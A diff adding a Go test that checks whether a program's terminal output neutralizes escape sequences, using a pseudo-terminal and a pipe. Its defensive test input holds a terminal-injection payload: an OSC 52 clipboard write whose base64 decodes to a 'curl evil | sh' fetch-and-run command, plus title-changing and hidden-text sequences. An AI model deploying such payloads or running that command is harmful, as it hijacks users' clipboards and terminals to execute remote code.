@@ -1,0 +1,77 @@
+package host
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// openPTY returns the two ends of a new pseudo-terminal.
+func openPTY(t *testing.T) (master, slave *os.File) {
+	t.Helper()
+	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
+	if err != nil {
+		t.Skipf("no pseudo-terminals here: %v", err)
+	}
+	if err := unix.IoctlSetPointerInt(int(m.Fd()), unix.TIOCSPTLCK, 0); err != nil {
+		t.Skipf("unlock pty: %v", err)
+	}
+	n, err := unix.IoctlGetInt(int(m.Fd()), unix.TIOCGPTN)
+	if err != nil {
+		t.Skipf("pty number: %v", err)
+	}
+	s, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
+	if err != nil {
+		t.Skipf("open pty: %v", err)
+	}
+	t.Cleanup(func() { m.Close(); s.Close() })
+	return m, s
+}
+
+// A script's escape sequences reach a terminal shown, not acted on (OSC 52
+// would set the clipboard, OSC 0 the title, CSI 8m hide text); a pipe gets
+// the exact bytes.
+func TestWriteTextSanitizesForTerminals(t *testing.T) {
+	hostile := "copy this\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;PWNED\x07\x1b[8mhidden\x1b[0m done\n"
+	r := &RunResult{}
+	// Cut inside the OSC, as output arrives in chunks.
+	r.chunks = [][]byte{[]byte(hostile[:14]), []byte(hostile[14:])}
+
+	master, slave := openPTY(t)
+	if err := r.WriteText(slave); err != nil {
+		t.Fatal(err)
+	}
+	master.SetReadDeadline(time.Now().Add(10 * time.Second))
+	buf := make([]byte, 4096)
+	var got []byte
+	for !bytes.Contains(got, []byte("done")) {
+		n, err := master.Read(buf)
+		if err != nil {
+			t.Fatalf("read terminal: %v (so far %q)", err, got)
+		}
+		got = append(got, buf[:n]...)
+	}
+	if bytes.ContainsRune(got, 0x1b) || bytes.ContainsRune(got, 0x07) {
+		t.Errorf("raw control bytes reached the terminal: %q", got)
+	}
+	if !strings.Contains(string(got), `\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07`) {
+		t.Errorf("terminal shows %q; want the OSC 52 made visible", got)
+	}
+
+	r2, w, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer r2.Close()
+	go func() { r.WriteText(w); w.Close() }()
+	var piped bytes.Buffer
+	piped.ReadFrom(r2)
+	if piped.String() != hostile {
+		t.Errorf("a pipe got %q, want the exact bytes", piped.String())
+	}
+}
